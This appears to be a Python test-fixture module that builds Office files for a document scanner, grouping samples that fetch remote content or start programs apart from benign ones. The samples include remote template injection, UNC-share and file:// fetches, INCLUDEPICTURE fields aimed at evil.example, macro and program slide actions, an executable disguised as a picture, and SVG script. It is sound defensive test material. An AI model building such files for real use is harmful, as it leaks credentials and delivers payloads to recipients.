"""Office files that lead elsewhere: by links that people press, or by what they fetch unasked."""

from collections.abc import Mapping
from functools import partial
from types import MappingProxyType
from typing import Any

from tests.documents.made_parts import (
    ENTITIES,
    OFFICE,
    RELATIONS,
    Made,
    drawn,
    fetching,
    office,
    reckoned,
    relations,
    sixteen,
    told,
)

SHARE = "file://evil.example/share/a.exe"
W3 = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink">{}</svg>'
VML = '<xml xmlns:v="urn:v" xmlns:o="urn:o" xmlns:r="{}">{}</xml>'
PIVOT = (
    '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="{}">{}</cacheSource>'
    "</pivotCacheDefinition>"
)
UPDATING = b'<w:settings xmlns:w="w"><w:updateFields w:val="true"/></w:settings>'
PASTED = b'INCLUDEPICTURE "https://www.gov.uk/a.png" \\* MERGEFORMATINET'


def holding(kind: str, parts: Mapping[str, bytes | str], **more: Any) -> bytes:
    """An Office file with parts by their real names."""
    data: dict[str, Any] = {
        name: part.encode() if isinstance(part, str) else part for name, part in parts.items()
    }
    return office(kind, **data, **more)


def with_part(
    kind: str, name: str, part: bytes | str, endings: Mapping[str, str] = MappingProxyType({})
) -> Made:
    return partial(holding, kind, {name: part}, endings=endings)


def slide(link: str) -> Made:
    """A presentation with a button."""
    part = f'<p:sld xmlns:p="p" xmlns:a="a" xmlns:r="r"><a:{link}/></p:sld>'
    return with_part("pptx", "ppt/slides/slide1.xml", part)


def vml(kind: str, inner: str) -> Made:
    return with_part(kind, "word/drawing.vml", VML.format(RELATIONS, inner))


def twice(first: str, second: str) -> bytes:
    """A relation whose mode is said twice: each program picks its own."""
    kind = f"{RELATIONS}/attachedTemplate"
    told = f'Id="r1" Type="{kind}" Target="https://evil.example/a.dotm"'
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" '
        f'xmlns:x="x"><Relationship {told} TargetMode="{first}" x:TargetMode="{second}"/>'
        "</Relationships>"
    ).encode()


def template(to: str, mode: str = "External") -> Made:
    return partial(fetching, "attachedTemplate", to, mode)


def without_mode(to: str) -> bytes:
    made = relations(to=to, kind="attachedTemplate")
    return made.replace(b' TargetMode="External"', b"")


RELS = "word/_rels/settings.xml.rels"
FETCHING: dict[str, Made] = {
    "tables.xlsx": with_part("xlsx", "xl/queryTables/q.xml", '<queryTable refreshOnLoad="1"/>'),
    "hourly.xlsx": with_part("xlsx", "xl/connections.xml", '<x><connection interval="60"/></x>'),
    "office data.xlsx": with_part(
        "xlsx", "xl/connections.xml", '<x><connection odcFile="http://evil.example/a.odc"/></x>'
    ),
    "all at once.xlsx": with_part("xlsx", "xl/w.xml", '<workbookPr refreshAllConnections="true"/>'),
    "pivot.xlsx": with_part("xlsx", "xl/pivotCache/p.xml", PIVOT.format("external", "")),
    "pivot of another.xlsx": with_part(
        "xlsx",
        "xl/pivotCache/p.xml",
        PIVOT.format("worksheet", f'<worksheetSource xmlns:r="{RELATIONS}" r:id="r1"/>'),
    ),
    "links always.xlsx": lambda: holding(
        "xlsx",
        {
            "xl/w.xml": '<workbookPr updateLinks="always"/>',
            "xl/_rels/w.xml.rels": relations(to="https://evil.example", kind="externalLinkPath"),
        },
    ),
    "drawn from a share.docx": vml("docx", '<v:imagedata src="file:\\\\evil.example\\a.png"/>'),
    "drawn from a host.docx": vml("docx", '<v:imagedata src="//evil.example/a.png"/>'),
    "drawn from a page.docx": vml("docx", '<v:imagedata o:href="https://evil.example/a.png"/>'),
    "drawn with a name that is no relation.docx": with_part(
        "docx", "word/d.vml",
        VML.format("other", '<v:imagedata r:id="r1" o:href="https://evil.example/a.png"/>'),
    ),
    "drawing.docx": with_part(
        "docx", "word/media/a.svg", SVG.format('<use x:href="file://evil.example/a.svg#b"/>')
    ),
    "drawing with its own words.docx": with_part(
        "docx", "word/media/a.svg", ENTITIES.replace(" x ", " svg ") + SVG.format("")
    ),
    "template on a share.docx": template("file:///\\\\evil.example\\a.dotx"),
    "template with a blank.docx": template("https://evil.example/a.dotm", "External "),
    "template without a mode.docx": with_part(
        "docx", RELS, without_mode("https://evil.example/a.dotm")
    ),
    "template said twice.docx": with_part("docx", RELS, twice("External", "Internal")),
    "template in sixteen.docx": with_part(
        "docx", RELS, sixteen(relations(to="https://evil.example/a", kind="attachedTemplate"))
    ),
    "template big end first.docx": with_part(
        "docx",
        RELS,
        sixteen(relations(to="https://evil.example/a", kind="attachedTemplate"), big=True),
    ),
    "letters.docx": with_part(
        "docx", "word/s.xml",
        '<s xmlns:w="w"><w:mailMerge><w:connectString w:val="Data Source=evil"/></w:mailMerge></s>',
    ),
    "picture not kept.docx": with_part(
        "docx", "word/h.xml", told(b'INCLUDEPICTURE "https://evil.example/a.png" \\d')
    ),
    "picture from a share.docx": with_part(
        "docx", "word/h.xml", told(b'INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"')
    ),
    "picture from a file.docx": with_part(
        "docx", "word/h.xml", told(b'INCLUDEPICTURE "file://evil.example/a.png"')
    ),
    "pictures fetched anew.docx": lambda: holding(
        "docx", {"word/settings.xml": UPDATING, "word/h.xml": told(PASTED)}
    ),
    "picture out of date.docx": lambda: holding(
        "docx", {"word/h.xml": told(PASTED).replace(b"<w:fldChar ", b'<w:fldChar w:dirty="1" ', 1)}
    ),
    "text from a share.docx": with_part(
        "docx", "word/h.xml", told(b"INCLUDETEXT \\\\evil.example\\a.docx")
    ),
}  # fmt: skip
LEADING: dict[str, Made] = {
    "to a share.docx": partial(fetching, "hyperlink", SHARE),
    "to a host.docx": partial(fetching, "hyperlink", "\\\\evil.example\\a"),
    "to a hidden share.docx": partial(fetching, "hyperlink", " %5C%5Cevil.example/a"),
    "to a program.docx": partial(fetching, "hyperlink", "search-ms:query=a"),
    "to a script.docx": partial(fetching, "hyperlink", "data:text/html,a"),
    "from a field.docx": with_part(
        "docx", "word/h.xml", told(b'HYPERLINK "', SHARE.encode(), b'"')
    ),
    "from a field after a tip.docx": with_part(
        "docx", "word/h.xml", told(b'HYPERLINK "a" \\t "', SHARE.encode(), b'"')
    ),
    "from a cell.xlsx": partial(reckoned, b'HYPERLINK ("\\\\evil.example\\a",1)'),
    "from a shape.docx": vml("docx", f'<v:shape href="{SHARE}"/>'),
    "by pointing.pptx": slide('hlinkMouseOver r:id="r1"'),
}  # fmt: skip
STARTING: dict[str, Made] = {
    "by pointing.pptx": slide('hlinkMouseOver r:id="r1" action="ppaction://program"'),
    "by pressing.pptx": slide('hlinkClick r:id="" action="ppaction://macro?name=a"'),
    "object.pptx": slide('hlinkClick r:id="" action="ppaction://ole?verb=0"'),
    "object said in general.docx": with_part(
        "docx", "word/embeddings/a.bin", b"x", {"bin": f"{OFFICE}.oleObject"}
    ),
    "binary.docx": with_part(
        "docx",
        "word/embeddings/a.xlsb",
        b"PK",
        {"xlsb": "application/vnd.ms-excel.sheet.binary.macroEnabled.12"},
    ),
    "program as a picture.docx": with_part(
        "docx", "word/media/a.tmp", b"MZ\x90", {"tmp": "image/png"}
    ),
    "drawing as a picture.docx": with_part(
        "docx",
        "word/media/a.tmp",
        "\n" + SVG.format("<script>alert(1)</script>"),
        {"tmp": "image/png"},
    ),
    "film.pptx": with_part("pptx", "ppt/media/a.mp4", b"x", {"mp4": "video/mp4"}),
}

MASHUP = b'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
ORDINARY: dict[str, Made] = {
    "with a label.docx": with_part("docx", "customXml/item1.xml", sixteen(b"<label/>")),
    "with a label, big end first.docx": with_part(
        "docx", "customXml/item1.xml", sixteen(b"<label/>", big=True)
    ),
    "with a query.xlsx": lambda: holding(
        "xlsx",
        {
            "customXml/item1.xml": sixteen(MASHUP),
            "xl/connections.xml": '<x><connection id="1" odcFile="C:\\Data\\a.odc"/></x>',
            "xl/queryTables/q.xml": '<queryTable name="a" connectionId="1" refreshOnLoad="0"/>',
        },
    ),
    "with its fonts.docx": lambda: holding(
        "docx",
        {"word/fonts/a.ttf": b"\0\1\0\0", "word/fonts/font1.odttf": b"\x1f\x02"},
        endings={"ttf": "application/x-font-ttf", "odttf": f"{OFFICE}.obfuscatedFont"},
    ),
    "printed.pptx": with_part(
        "pptx",
        "ppt/printerSettings/printerSettings1.bin",
        b"x",
        {"bin": f"{OFFICE}.presentationml.printerSettings"},
    ),
    "printed.docx": with_part(
        "docx",
        "word/printerSettings1.bin",
        b"x",
        {"bin": f"{OFFICE}.wordprocessingml.printerSettings"},
    ),
    "with properties.xlsx": with_part(
        "xlsx", "xl/customProperty1.bin", b"x", {"bin": f"{OFFICE}.spreadsheetml.customProperty"}
    ),
    "with pasted pictures.docx": lambda: holding(
        "docx",
        {
            "word/media/a.jfif": drawn("RGB", "JPEG"),
            "word/media/b.tmp": drawn("RGB", "PNG"),
            "word/media/c.webp": b"RIFF",
        },
        endings={"jfif": "image/jpeg", "tmp": "image/png", "webp": "image/webp"},
    ),
    "with a drawing.docx": with_part(
        "docx", "word/media/a.svg", W3 + SVG.format('<use x:href="#a"/>')
    ),
    "with a picture in a drawing.docx": with_part(
        "docx", "word/media/a.svg", SVG.format('<image x:href="data:image/png;base64,//8="/>')
    ),
    "from a template.docx": template("file:///C:\\Office\\Templates\\Council%20report.dotx"),
    "from the common template.docx": template("Normal.dotm"),
    "of a lost workbook.xlsx": partial(
        fetching, "xlExternalLinkPath/xlPathMissing", "b.xlsx", office_kind="xlsx"
    ),
    "of a shared workbook.xlsx": partial(
        fetching, "externalLinkLongPath", "https://www.gov.uk/b.xlsx", office_kind="xlsx"
    ),
    "with comments.xlsx": with_part(
        "xlsx", "xl/drawings/d.vml", VML.format("r", "<v:textbox><font>a<br>b</font></v:textbox>")
    ),
    "without the objects it speaks of.docx": with_part(
        "docx", "word/a.xml", "<a/>", {"bin": f"{OFFICE}.oleObject"}
    ),
    "with a picture from a page.docx": with_part("docx", "word/h.xml", told(PASTED)),
    "with a picture that says where it was.docx": vml(
        "docx", '<v:imagedata r:id="r5" o:href="https://www.gov.uk/a.png"/>'
    ),
    "with a table of its own.xlsx": with_part(
        "xlsx", "xl/p.xml", PIVOT.format("worksheet", '<worksheetSource ref="A1:B2"/>')
    ),
    "that updates its contents.docx": lambda: holding(
        "docx", {"word/settings.xml": UPDATING, "word/h.xml": told(b"TOC \\o")}
    ),
    "with buttons.pptx": slide(
        'hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"'
    ),
    "with a page that turns.pptx": slide(
        'hlinkMouseOver r:id="" action="ppaction://hlinkshowjump?jump=nextslide"'
    ),
    "with a mail link.docx": partial(fetching, "hyperlink", "mailto:front.door@example.org"),
    "with a link to a heading.docx": partial(fetching, "hyperlink", "#_Toc1"),
    "with link fields.docx": with_part(
        "docx", "word/h.xml", told(b'HYPERLINK "https://www.gov.uk/" \\l "a" \\o "Tip: a"')
    ),
    "with links within.docx": with_part("docx", "word/h.xml", told(b' HYPERLINK \\l "_Toc1"')),
    "with places to fill in.docx": with_part(
        "docx", "word/h.xml", told(b"MACROBUTTON NoMacro [Click here]")
    ),
}  # fmt: skip
